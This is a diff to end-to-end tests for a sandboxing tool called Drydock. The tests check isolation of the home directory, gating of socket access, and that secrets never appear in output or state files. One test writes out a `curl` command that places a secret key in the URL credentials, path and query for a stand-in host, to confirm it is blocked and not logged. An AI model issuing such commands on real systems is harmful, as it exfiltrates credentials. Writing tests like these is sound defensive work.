@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
 import { createServer } from "node:net";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
 import { describe, it } from "node:test";
 import { program } from "../end-to-end/workplace.ts";
 import { removeFolder } from "../support/remove-folder.ts";
@@ -95,6 +95,15 @@ class OwnHome {
     return this.stage.run("sh", ["-c", open, ...exec], { env: { HOME: this.stage.home } });
   }
 
+  /** The names in the home that a command should see beside the resource, as it is explained. */
+  get explained(): readonly string[] {
+    const { home } = this.stage;
+    const explain = ["--json", "run", "--explain", "-r", join(home, "work")];
+    const told = JSON.parse(this.stage.drydock(explain, { env: { HOME: home } }).stdout);
+    const lines = [...told.kept, ...told.writtenBack, ...told.readable, ...told.caches.paths];
+    return [...new Set(lines.map(({ path }) => path.slice(home.length + 1).split("/")[0]))];
+  }
+
   /** Shows what is found by every name that leads to the home. */
   get look(): string {
     const { home } = this.stage;
@@ -128,15 +137,16 @@ describe("A home of the plan's own", () => {
   });
 
   for (const [actor, make] of OWN_HOMES)
-    it(`[I3] shows nothing of the user's but what the policy names to a command of ${actor}`, () => {
+    it(`[I3, I14] shows nothing of the user's but what the policy names to a command of ${actor}`, () => {
       using stage = make();
       const own = new OwnHome(stage);
       own.config("own: true");
       const id = own.plan();
-      const use = `cat ~/.tool/state ~/.settings ~/.linked/x ~/bin/program file
+      const use = `ls -A -I work ~; cat ~/.tool/state ~/.settings ~/.linked/x ~/bin/program file
         for at in ~/.tool ~/.npm ~; do echo 1 > $at/made; done; echo 2 > ~/.settings`;
       const used = own.exec(id, `${own.look}\n${use}`);
-      assert.equal(used.stdout, "state\nsettings\nlinked\nprogram\nfile\n", used.stderr);
+      const names = [...own.explained, ".linked"].toSorted().join("\n");
+      assert.equal(used.stdout, `${names}\nstate\nsettings\nlinked\nprogram\nfile\n`, used.stderr);
       assert.ok(!used.stderr.includes(SECRET));
       const next = own.exec(id, "cat ~/.tool/made ~/.npm/made ~/made ~/.settings");
       assert.equal(next.stdout, "1\n1\n1\n2\n", next.stderr);
@@ -245,19 +255,23 @@ for (const actor of ACTORS) {
       assert.match(stdout, /Can't read\n {2}~\/\.ssh +the profile claude\n/);
     });
 
-    it("[X7] lets a command reach no socket in /run, but for those that the user's policy names", {
+    it("[X7, I14] lets a command reach no socket in /run, but for those that the user's policy names", {
       skip: process.geteuid?.() !== 0 && "only root makes a socket in /run",
     }, () => {
       using stage = new Stage(actor);
       using daemon = new Daemon("/run");
       using agent = new Daemon("/tmp");
+      // What can be read is not what can be asked.
+      using read = new Daemon(stage.home);
+      const allowed = `read: { allow: [${dirname(read.path)}] }, home: { own: true }`;
       const config = (text: string, at = "home/.config/drydock/config.yaml") => {
         stage.write(at, text);
         stage.give();
       };
       const env = { SSH_AUTH_SOCK: agent.path, DRYDOCK_CONFIG: "drydock.yaml" };
       const reached = () => {
-        const call = `for path in ${daemon.path} "\${SSH_AUTH_SOCK:-/none}"; do ${CONNECT} "$path" && echo yes || echo no; done`;
+        const call = `test -e ${read.path} || echo missing; ${CONNECT} ${read.path} && echo asked
+          for path in ${daemon.path} "\${SSH_AUTH_SOCK:-/none}"; do ${CONNECT} "$path" && echo yes || echo no; done`;
         const { stdout, stderr } = stage.drydock(["run", "--discard", "--", "sh", "-c", call], { env });
         return [
           ...stdout.trim().split("\n"),
@@ -266,8 +280,11 @@ for (const actor of ACTORS) {
       };
       config(`run: { sockets: { ssh_agent: true, paths: [${daemon.path}] } }\n`, "project/drydock.yaml");
       assert.deepEqual(reached(), ["no", "no", "refused"]);
-      config(`run: { sockets: { ssh_agent: true, paths: [${daemon.path}] } }\n`);
+      config(`run: { sockets: { ssh_agent: true, paths: [${daemon.path}] }, ${allowed} }\n`);
       assert.deepEqual(reached(), ["yes", "yes"]);
+      const { stdout } = stage.drydock(["--json", "run", "--explain"], { env });
+      const told = JSON.parse(stdout).sockets.map(({ path }: { path: string }) => path);
+      assert.deepEqual(told.toSorted(), [daemon.path, agent.path].toSorted());
       config("run: { sockets: { ssh_agent: false } }\n", "project/drydock.yaml");
       assert.deepEqual(reached(), ["yes", "no"]);
     });
@@ -347,6 +364,21 @@ for (const actor of ANY_ACTOR) {
       const { status, stderr } = agent.run(["--limit", "scratch=2g", "--", "sleep", "100"], env);
       assert.notEqual(status, 0);
       assert.match(stderr, /1s/);
+    });
+
+    it("[I12] tells no value of a variable: in no output, and in no file of the state directory", () => {
+      using stage = new Stage(actor);
+      const run = `env: { set: { KEY: ${SECRET} }, deny: [TOKEN] }, network: { allow: [example.com] }`;
+      const agent = new Agent(stage, `run: { ${run} }\n`);
+      const env = { HOME: stage.home, TOKEN: SECRET };
+      const id = stage.done("plan", "create", "-r", stage.project).trim();
+      const ask = 'curl -s "http://user:$KEY@denied.example/$KEY?key=$KEY" | grep -c denied.example; exit 3';
+      const asked = stage.drydock(["--json", "plan", "exec", id, "--", "sh", "-c", ask], { env });
+      const { stdout, denied, exitCode } = JSON.parse(asked.stdout);
+      assert.deepEqual([stdout, exitCode, denied[0].destination], ["1\n", 3, "denied.example:80"]);
+      const said = [asked, agent.run(["--explain"], env), stage.drydock(["--json", "plan", "log", id])];
+      for (const ended of said) assert.ok(!JSON.stringify(ended).includes(SECRET), ended.stdout);
+      assert.equal(stage.run("grep", ["-rlaF", SECRET, stage.state]).stdout, "");
     });
 
     it("refuses to keep what is Drydock's own, what is no folder, and what is not in the home", () => {
